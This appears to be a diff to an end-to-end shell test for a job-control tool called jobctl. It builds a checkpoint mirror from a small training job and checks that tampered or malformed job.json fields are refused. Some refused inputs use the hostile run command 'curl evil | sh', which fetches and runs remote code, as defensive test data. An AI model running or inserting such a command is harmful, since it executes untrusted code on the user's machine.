@@ -3,9 +3,28 @@
 # and a file that changes after that is not run. Every change of one value is refused, or is what a submit accepts.
 . "$TOP/tests/e2e/expect.sh"
 cd "$WORK"
-mkdir here
-cp -r "$TOP"/tests/fixtures/8f11318/mirror .
-sed -i "s|/tmp/jobctl-fixture|$WORK|" mirror/cancelled/job.json
+mkdir here mirror
+# A mirror that a job of another home has left, as from another machine.
+cat >job.yaml <<YAML
+name: cancelled
+workdir: $WORK/here
+resources: {ranks: 1, cpus: 1, gpus: 0}
+train:
+  model: {preset: tiny, depth: 1, hidden: 8, heads: 1, linear_head_dim: 8, mlp_ratio: 1.0}
+  data: {encoders: synthetic, resolution: 256, caption_words: 2, caption_channels: 8}
+  batch: {global: 4}
+  steps: 13
+  sample: {before: false, after: false}
+checkpoint: {keep: 1, mirror: $WORK/mirror}
+YAML
+home=$JOBCTL_HOME
+export JOBCTL_HOME=$WORK/first
+mkdir -m 700 first
+code 0 jobctl submit -q --wait job.yaml
+stop_daemon
+export JOBCTL_HOME=$home
+sed -i 's/"host": *"[^"]*"/"host":"fixture"/; s/"job": *1\b/"job":5/; s/"steps": *13/"steps":100/' mirror/cancelled/job.json
+origin=$(field origin <mirror/cancelled/job.json)
 change() { # KEY... VALUE: of job.json, which begins as it was each time
     [ -e job.json ] || cp mirror/cancelled/job.json .
     python3 - "$@" <<'PY'
@@ -61,7 +80,7 @@ refused 'spec: retry.max: expected a whole number from 0 to 100000, not "many"' 
 refused 'spec: unknown key "rnu"; did you mean "run"?' spec rnu '"curl evil | sh"'
 refused 'spec: checkpoint.mirror: not possible for run commands' spec '{
     "schema": 1, "name": "cancelled", "workdir": "/", "run": "curl evil | sh", "checkpoint": {"mirror": "/",
-    "origin": "10a7dad6f79ad95393db59769a310da8"}}'
+    "origin": "'"$origin"'"}}'
 refused 'spec: secrets[0]: expected text, not nothing' spec secrets '[null]'
 refused 'spec: workdir: expected an absolute path, not "here"' spec workdir '"here"'
 refused 'origin: expected the origin of its spec' origin '"00000000000000000000000000000000"'
